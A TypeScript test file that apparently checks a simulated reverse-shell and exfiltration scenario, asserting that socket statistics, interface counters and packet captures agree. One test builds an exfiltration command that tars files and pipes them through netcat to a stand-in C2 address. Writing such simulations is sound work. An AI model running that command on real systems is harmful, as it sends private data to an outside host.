import flagship from '../../../../scenarios/ssh-reverse-shell-beacon-exfil.yaml?raw';
import { describe, expect, it } from 'vitest';
import type { HostState, Packet } from '../types';
import { compiledOnce } from './flagship.fixture';

const c = compiledOnce(flagship);
const rs = c.byId('revshell', 'reverse-shell');
const exfil = c.byId('exfil', 'exfil');
const c2 = String(c.vars.get('c2_addr'));
const mine = (p: Packet) => (p.sport === rs.localPort && p.dst === c2) || (p.dport === rs.localPort && p.src === c2);
const wire = (w: HostState, from: number, to: number) => w.packets(from, to).filter(mine);
const payload = (ps: Packet[]) => ps.reduce((n, p) => n + p.length, 0);
const frame = (p: Packet) => p.length + 52 + (p.flags?.startsWith('S') ? 8 : 0) + 14;
const eth = (w: HostState) => w.interfaces.find((i) => i.name === 'eth0')!.stats;

describe('reverse shell: one list of segments for ss -i, the counters and tcpdump', () => {
  it('answers the exfil command with tar\'s warning on the socket, so lastsnd follows lastrcv', () => {
    const t = c.base.now;
    const info = c.at(t).sockets.find((s) => s.id === 'revshell')!.info!;
    expect(info.lastrcv).toBe(t - exfil.at);
    expect(info.lastsnd).toBe(t - exfil.at - 2);
    const around = wire(c.at(t), exfil.at - 1, exfil.at + 100);
    const cmd = `tar czf - ${exfil.source} | nc ${c2} ${exfil.to.port}\n`;
    const warning = "tar: Removing leading '/' from member names\n";
    expect(around.map((p) => [Math.round((p.time - exfil.at) * 10) / 10, p.src === c2 ? 'in' : 'out', p.flags, p.length])).toEqual([
      [0, 'in', 'P.', cmd.length], [1.5, 'out', 'P.', warning.length], [41.9, 'in', '.', 0],
    ]);
    // The prompt does not come back: the pipeline is still running in the foreground.
  });

  it('counts in tcp_info exactly what tcpdump sees, from the SYN on', () => {
    const t = c.base.now;
    const w = c.at(t);
    const info = w.sockets.find((s) => s.id === 'revshell')!.info!;
    const all = wire(w, rs.at - 1, t + 1);
    const out = all.filter((p) => p.src !== c2);
    const back = all.filter((p) => p.src === c2);
    expect(all[0]!.flags).toBe('S');
    expect([info.segsOut, info.segsIn, info.dataSegsOut, info.dataSegsIn]).toEqual(
      [out.length, back.length, out.filter((p) => p.length).length, back.filter((p) => p.length).length]);
    expect([info.bytesSent, info.bytesReceived, info.bytesAcked]).toEqual([payload(out), payload(back), payload(out) + 1]);
    // sequence numbers run on from one segment to the next
    for (const ps of [out, back]) {
      let next = (ps[0]!.seq! + 1) >>> 0;
      for (const p of ps.slice(1)) {
        expect(p.seq).toBe(next);
        next = (next + p.length) >>> 0;
      }
    }
  });

  it('moves the interface counters by the frames tcpdump shows when the shell connects', () => {
    const [t1, t2] = [rs.at - 1, rs.at + 10_000];
    const [a, b] = [eth(c.at(t1)), eth(c.at(t2))];
    const ps = wire(c.at(t2), t1, t2 + 1);
    const out = ps.filter((p) => p.src !== c2);
    const back = ps.filter((p) => p.src === c2);
    expect(out.length).toBeGreaterThan(3);
    expect({ tx: b.txPackets - a.txPackets, txB: b.txBytes - a.txBytes, rx: b.rxPackets - a.rxPackets,
      rxB: b.rxBytes - a.rxBytes }).toEqual({ tx: out.length, txB: out.reduce((n, p) => n + frame(p), 0),
      rx: back.length, rxB: back.reduce((n, p) => n + frame(p), 0) });
  });
});
